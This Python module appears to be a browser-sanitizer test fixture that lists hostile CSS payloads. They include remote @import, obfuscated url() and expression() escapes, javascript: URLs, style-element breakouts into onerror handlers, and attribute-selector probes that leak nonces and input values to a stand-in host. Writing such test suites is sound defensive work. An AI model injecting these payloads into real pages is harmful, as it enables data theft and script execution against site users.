"""Style sheets that load, run or spy."""

from tests.browser.hostile.payloads.payload import Family, complete, family

# Every property that takes a picture, a shape or a file.
_PROPERTIES = (
    *("background", "border-image", "list-style", "content", "cursor", "mask", "-webkit-mask"),
    *("filter", "backdrop-filter", "clip-path", "offset-path", "shape-outside", "marker-start"),
    *("-webkit-box-reflect", "--own"),
)
_VALUES = {
    "-webkit-box-reflect": "below 0 url(//evil.test/x)",
    "cursor": "url(//evil.test/x),auto",
}

STYLES: Family = complete(
    {
        f"{name} of a file": (
            f"<style>p,p::before{{{name}:{_VALUES.get(name, 'url(//evil.test/x#a)')};"
            "background-image:var(--own)}</style>"
        )
        for name in _PROPERTIES
    }
) | family(
    {
        "import": "<style>@import '//evil.test/x.css';</style>",
        "import with url": (
            "<style>@import url(//evil.test/x.css) layer(a) supports(color:red);</style>"
        ),
        "import in disguise": r"<style>@\69 mport/**/'//evil.test/x.css';</style>",
        "import behind a comment": "<style>/*/*/@import '//evil.test/x.css';</style>",
        "import behind a charset": "<style>@charset 'utf-7';@import '//evil.test/x';</style>",
        "url in disguise": r"<p style='background:\75\000072\6C(//evil.test/x)'>x",
        "url with a broken string": "<style>p{background:url('//evil.test/x\n)}</style>",
        "url behind a broken string": (
            "<style>p{content:'a\n;background:url(//evil.test/x)}</style>"
        ),
        "url never closed": "<style>p{background:url(//evil.test/x",
        "url with an escaped end": r"<style>p{background:url(//evil.test/x\)</style>",
        "image set": "<style>p{background:image-set('//evil.test/x' 1x)}</style>",
        "prefixed image set": (
            "<style>p{background:-webkit-image-set(url(//evil.test/x)1x)}</style>"
        ),
        "cross fade": "<style>p{background:-webkit-cross-fade(url(//evil.test/x),red,5%)}</style>",
        "src function": "<style>p{background:src('//evil.test/x')}</style>",
        "font": ("<style>@font-face{font-family:a;src:url(//evil.test/f)}p{font-family:a}</style>"),
        "font by range": (
            "<style>@font-face{font-family:a;src:url(//evil.test/a);unicode-range:U+54}"
            "p{font-family:a}</style>"
        ),
        "spying on attributes": (
            "<style>script[nonce^=a]{background:url(//evil.test/a)}"
            "[data-node^='1']{background:url(//evil.test/1)}input[value^=s]{"
            "background:url(//evil.test/s)}"
            "</style>"
        ),
        "attribute as an address": (
            "<style>p{background:image-set(attr(title))}i{background:attr(title type(<url>))}"
            "</style><p title=//evil.test/x>x<i title=//evil.test/x>x</i></p>"
        ),
        "variable as an address": "<p style='--a:url(//evil.test/x);background:var(--a)'>x</p>",
        "registered variable": (
            "<style>@property --a{syntax:'<url>';inherits:true;initial-value:url(//evil.test/x)}"
            "p{background:var(--a)}</style>"
        ),
        "namespace and document": (
            "<style>@namespace url(//evil.test/n);@document url(//evil.test){p{color:red}}</style>"
        ),
        "expression": "<p style='width:expression(RUN)'>x</p>",
        "expression in disguise": "<p style='width:e\\78pre/**/ssion(RUN)'>x</p>",
        "behavior": "<p style='behavior:url(//evil.test/x.htc)'>x</p>",
        "binding": "<p style='-moz-binding:url(//evil.test/x.xml#a)'>x</p>",
        "javascript in css": "<p style='background:url(javascript:RUN)'>x</p>",
        "javascript as a list style": "<style>li{list-style:url('javascript:RUN')}</style><li>x",
        "html comment marks": "<style><!--p{background:url(//evil.test/x)}--></style>",
        "end of the element": "<style>p{content:'</style><img src=x onerror=RUN>'}</style>",
        "end of the element in an attribute": (
            "<p style=\"content:'</p><img src=x onerror=RUN>'\">x</p>"
        ),
        "view transition": (
            "<style>@view-transition{navigation:auto}::view-transition{"
            "background:url(//evil.test/)}"
            "</style>"
        ),
        "scroll trigger": "<style>:target{background:url(//evil.test/t)}</style><p id=x>x",
        "hover trigger": "<style>p:hover,p:active,:focus{background:url(//evil.test/h)}</style>",
        "print trigger": "<style>@media print{p{background:url(//evil.test/p)}}</style>",
    }
)
